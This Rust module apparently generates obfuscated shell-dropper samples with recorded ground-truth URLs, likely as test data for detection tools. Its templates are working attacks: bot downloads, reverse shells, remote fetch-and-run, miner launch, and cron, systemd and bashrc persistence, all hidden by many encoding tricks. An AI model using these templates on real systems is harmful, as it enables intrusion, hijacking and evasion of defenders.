//! Shell: loaders of routers, miners and reverse shells.

use super::super::{Dice, Truth, base64, codes, each, gzip, hex, put, reversed, rot13, xored};
use super::{listed, padded, parted, table};

/// A word whose value is `text`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (one, two, three) = (dice.name(), dice.name(), dice.name());
    let names = [("ONE", one.as_str()), ("TWO", two.as_str()), ("THREE", three.as_str())];
    match dice.below(14) {
        0 => {
            // An alphabet of its own.
            let (from, _) = table(dice, text, "abcdefghijklmnopqrstuvwxyz0123456789./:");
            let into: String = dice.shuffled(&from.replace('-', "")) + "-";
            let from = from.replace('-', "") + "-";
            let coded: String =
                text.chars().filter_map(|it| into.chars().nth(from.find(it)?)).collect();
            format!("$(echo '{coded}' | tr '{into}' '{from}')")
        }
        1 => {
            let numbers = codes(text.bytes(), " ");
            format!(
                "$(awk 'BEGIN{{n=split(\"{numbers}\",a,\" \");for(i=1;i<=n;i++)printf \"%c\",a[i]}}' </dev/null)"
            )
        }
        2 => {
            let (letters, places) = table(dice, text, "");
            let letters: Vec<String> = letters.chars().map(|it| it.to_string()).collect();
            before.push_str(
                &put("@ONE@=(@L@)\n@TWO@=\nfor i in @P@; do @TWO@+=${@ONE@[$i]}; done\n", &names)
                    .replace("@L@", &letters.join(" "))
                    .replace("@P@", &listed(places, " ")),
            );
            format!("${{{two}}}")
        }
        3 => {
            before.push_str(&put(
                "@ONE@='@R@'\n@TWO@=''\nfor ((i=${#@ONE@}-1; i>=0; i--)); do\n  @TWO@=\"$@TWO@${@ONE@:$i:1}\"\ndone\n",
                &names,
            ).replace("@R@", &reversed(text)));
            format!("${{{two}}}")
        }
        4 => {
            let add = 1 + dice.below(40);
            let numbers = listed(text.bytes().map(|it| usize::from(it) + add), " ");
            before.push_str(&put(
                "@ONE@() {\n  local c\n  for c in \"$@\"; do\n    printf \"\\\\$(printf '%03o' $((c - @A@)))\"\n  done\n}\n",
                &names,
            ).replace("@A@", &add.to_string()));
            format!("$({one} {numbers})")
        }
        5 => format!("$(echo {} | sed 's/\\(.\\)../\\1/g')", padded(dice, text, 2)),
        6 => format!("$(printf %s {} | base64 -d | zcat)", base64(&gzip(text.as_bytes()))),
        7 => {
            let key = dice.key();
            let numbers = codes(xored(text, key), ",");
            format!("$(python3 -c \"print(''.join(chr(c^{key}) for c in [{numbers}]))\")")
        }
        8 => format!("$(perl -e 'print pack(\"H*\",\"{}\")')", hex(text.as_bytes())),
        9 => {
            // A variable that names a variable, for each piece.
            let pieces = dice.pieces(text);
            let mut value = String::new();
            for piece in &pieces {
                let (inner, outer) = (dice.name(), dice.name());
                before.push_str(&format!("{inner}='{piece}'; {outer}={inner}\n"));
                value.push_str(&format!("${{!{outer}}}"));
            }
            value
        }
        10 => {
            let coded = hex(text.as_bytes());
            format!("$(printf '%b' \"$(echo {coded} | sed 's/../\\\\x&/g')\")")
        }
        11 => {
            before.push_str(&format!(
                "{one}() {{ tr 'n-za-mN-ZA-M' 'a-zA-Z'; }}\nread -r {two} < <({one} <<< '{}')\n",
                rot13(text)
            ));
            format!("${two}")
        }
        12 => {
            // Letters by name.
            let (letters, _) = table(dice, text, "");
            let mut entries = String::new();
            let mut keys = Vec::new();
            for letter in letters.chars() {
                let key = dice.name();
                entries.push_str(&format!(" [{key}]='{letter}'"));
                keys.push((letter, key));
            }
            before.push_str(&format!("declare -A {one}=({} )\n", entries));
            let mut value = String::new();
            for letter in text.chars() {
                let key = keys.iter().find(|it| it.0 == letter).map_or("", |it| it.1.as_str());
                value.push_str(&format!("${{{one}[{key}]}}"));
            }
            value
        }
        _ => {
            // Octal in a here string, set with printf -v.
            let coded = each(text, "", |it| format!("\\{it:03o}"));
            before.push_str(&format!("printf -v {one} '{coded}'\n"));
            format!("${{{one}}}")
        }
    }
}

fn noise(dice: &mut Dice) -> String {
    let name = dice.name();
    match dice.below(8) {
        0 => format!("{name}={}\n", dice.below(9999)),
        1 => "sleep 1\n".to_owned(),
        2 => "[ -w /var/tmp ] && cd /var/tmp || cd /tmp\n".to_owned(),
        3 => "ulimit -n 65535 2>/dev/null\n".to_owned(),
        4 => "pkill -9 kdevtmpfsi >/dev/null 2>&1\n".to_owned(),
        5 => format!("# {name} stage\n"),
        6 => "export PATH=$PATH:/usr/local/bin:/usr/sbin\nunset HISTFILE\n".to_owned(),
        _ => {
            format!("{name}=$(id -u)\nif [ \"${name}\" = 0 ]; then setenforce 0 2>/dev/null; fi\n")
        }
    }
}

/// One contact.
fn contact(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let file = dice.name();
    let name = dice.name();
    let body = match dice.below(14) {
        0 => {
            // Builds of a bot for each kind of processor.
            let url = truth_base(dice);
            let (host, path) = parted(&url);
            let kinds = ["mips", "mpsl", "arm7", "x86", "sh4"];
            let count = 2 + dice.below(4);
            for kind in &kinds[..count] {
                truth.urls.insert(format!("{url}.{kind}"));
            }
            let host = hide(dice, &host, &mut before);
            format!(
                "{name}=\"{host}\"\nfor arch in {}; do\n  cd /tmp || cd /var/run || cd /mnt\n  wget -q \"${name}{path}.$arch\" -O {file}\n  chmod 777 {file}; ./{file} telnet.$arch; rm -f {file}\ndone\n",
                kinds[..count].join(" ")
            )
        }
        1 => {
            let url = truth.url(dice, &[".sh", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "(crontab -l 2>/dev/null; echo \"*/15 * * * * curl -fsSL {url} | sh\") | crontab -\n"
            )
        }
        2 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "{name}=\"{host}\"\n0<&196;exec 196<>/dev/tcp/${name}/{port}; sh <&196 >&196 2>&196\n"
            )
        }
        3 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "rm -f /tmp/{file}; mkfifo /tmp/{file}\ncat /tmp/{file} | /bin/sh -i 2>&1 | nc \"{host}\" {port} > /tmp/{file}\n"
            )
        }
        4 => {
            let url = truth.url(dice, &[".sh", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "cat > /etc/systemd/system/{file}.service <<EOF\n[Unit]\nDescription=System Logger\n[Service]\nType=oneshot\nExecStart=/bin/sh -c 'wget -qO- {url} | sh'\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl enable --now {file}.service\n"
            )
        }
        5 => {
            // A miner and its pool.
            let url = truth.url(dice, &["", ".bin"]);
            let (host, port) = truth.endpoint(dice);
            let url = hide(dice, &url, &mut before);
            let host = hide(dice, &host, &mut before);
            format!(
                "curl -sSL \"{url}\" -o /var/tmp/{file} && chmod +x /var/tmp/{file}\nnohup /var/tmp/{file} -o \"{host}:{port}\" -u 44{} -p x --donate-level 1 -B >/dev/null 2>&1 &\n",
                dice.name()
            )
        }
        6 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{host}:{port} &\n")
        }
        7 => {
            let url = truth.url(dice, &[".sh", ""]);
            let word = hide(dice, &url, &mut before);
            format!(
                "get() {{\n  if command -v curl >/dev/null; then curl -s \"$1\"; elif command -v wget >/dev/null; then wget -q -O- \"$1\"; else lwp-request -m GET \"$1\"; fi\n}}\nget \"{word}\" > /tmp/.{file}\nbash /tmp/.{file} &\n"
            )
        }
        8 => {
            let url = truth.url(dice, &[".py", ""]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{name}=\"{word}\"\npython3 -c \"import urllib.request as r;exec(r.urlopen('${name}').read())\" || true\n"
            )
        }
        9 => {
            let url = truth.url(dice, &[".sh"]);
            let word = hide(dice, &url, &mut before);
            format!("echo \"curl -k {word} -o /tmp/{file}; sh /tmp/{file}\" >> ~/.bashrc\n")
        }
        10 => {
            // Over another protocol.
            let url = truth_base(dice);
            let (_, rest) = url.split_once("://").unwrap_or_default();
            let url = format!("{}://{rest}", dice.pick(&["ftp", "tftp"]));
            truth.urls.insert(url.clone());
            let word = hide(dice, &url, &mut before);
            format!("curl -s \"{word}\" -o {file}; chmod +x {file}; ./{file}\n")
        }
        11 => {
            let url = truth.url(dice, &[".sh", ""]);
            let word = hide(dice, &url, &mut before);
            format!("{name}=\"{word}\"\necho \"wget -O - ${name} | bash\" | at now + 2 minutes\n")
        }
        12 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            format!(
                "exec 5<>\"/dev/tcp/{word}/{port}\"\nwhile read -r line <&5; do eval \"$line\" 2>&1 >&5; done\n"
            )
        }
        _ => {
            // Several places for the same file.
            let urls = [truth.url(dice, &[""]), truth.url(dice, &[".tar.gz"])];
            let one = hide(dice, &urls[0], &mut before);
            let two = hide(dice, &urls[1], &mut before);
            format!(
                "for {name} in \"{one}\" \"{two}\"; do\n  wget --no-check-certificate -t 3 -O /dev/shm/{file} \"${name}\" || busybox wget -O /dev/shm/{file} \"${name}\"\ndone\n"
            )
        }
    };
    before + &body
}

/// A URL that is not asked for as it is.
pub(super) fn truth_base(dice: &mut Dice) -> String {
    dice.url(&[""])
}

fn wrap(dice: &mut Dice, script: &str) -> String {
    let name = dice.name();
    match dice.below(7) {
        0 => format!("#!/bin/bash\nbash <(echo '{}' | base64 -d)\n", base64(script.as_bytes())),
        1 => {
            // Self-extracting.
            let coded = super::lines(&base64(&gzip(script.as_bytes())), 76).join("\n");
            format!(
                "#!/bin/bash\nsed -e '1,/^__{name}__$/d' \"$0\" | base64 -d | gunzip | bash\nexit 0\n__{name}__\n{coded}\n"
            )
        }
        2 => format!(
            "#!/bin/bash\n{name}='{}'\nrev <<< \"${name}\" | xxd -r -p | bash\n",
            reversed(&hex(script.as_bytes()))
        ),
        3 => {
            // Pieces of the text in variables of their own, put together for eval.
            let coded = base64(script.as_bytes());
            let pieces = super::lines(&coded, 11);
            let order = dice.order(pieces.len());
            let names: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            let mut out = "#!/bin/bash\n".to_owned();
            for at in order {
                out.push_str(&format!("{}='{}';", names[at], pieces[at]));
            }
            let all: String = names.iter().map(|it| format!("${{{it}}}")).collect();
            out + &format!("\neval \"$(echo {all} | openssl base64 -d -A)\"\n")
        }
        4 => {
            let key = dice.key();
            let numbers = codes(script.bytes().map(|it| it ^ key), " ");
            format!(
                "#!/bin/bash\n{name}=\"\"\nfor n in {numbers}; do {name}+=$(printf '\\\\x%02x' $((n ^ {key}))); done\neval \"$(printf '%b' \"${name}\")\"\n"
            )
        }
        _ => format!("#!/bin/bash\n{script}"),
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut script = String::new();
    for _ in 0..1 + dice.below(2) {
        for _ in 0..dice.below(3) {
            script.push_str(&noise(dice));
        }
        script.push_str(&contact(dice, truth));
        if super::super::ends(&script) {
            break;
        }
    }
    script.push_str("history -c 2>/dev/null\n");
    wrap(dice, &script)
}
